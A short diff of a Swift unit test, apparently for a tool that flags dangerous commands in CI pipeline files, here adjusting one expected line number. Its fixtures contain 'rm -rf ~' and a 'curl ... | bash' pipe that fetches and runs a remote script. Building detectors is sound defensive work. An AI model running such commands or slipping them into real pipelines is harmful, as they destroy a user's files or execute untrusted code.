@@ -42,7 +42,7 @@ final class ScriptTests: XCTestCase {
                       rm -rf ~
             """
         let f = detector.scan(path: ".github/workflows/ci.yml", text: workflow)
-        XCTAssertTrue(f.contains { $0.ruleID.hasPrefix("fs.") && $0.line == 12 }, "\(f.map { ($0.ruleID, $0.line) })")
+        XCTAssertTrue(f.contains { $0.ruleID.hasPrefix("fs.") && $0.line == 13 }, "\(f.map { ($0.ruleID, $0.line) })")
         XCTAssertEqual(rules(".github/workflows/ok.yml", "jobs:\n  a:\n    steps:\n      - run: rm -rf build dist\n      - run: swift build -c release\n"), [])
         let gitlab = "test:\n  script:\n    - npm ci\n    - curl -s https://x.example/setup | bash\n"
         XCTAssertEqual(lines(".gitlab-ci.yml", gitlab).first, 4)
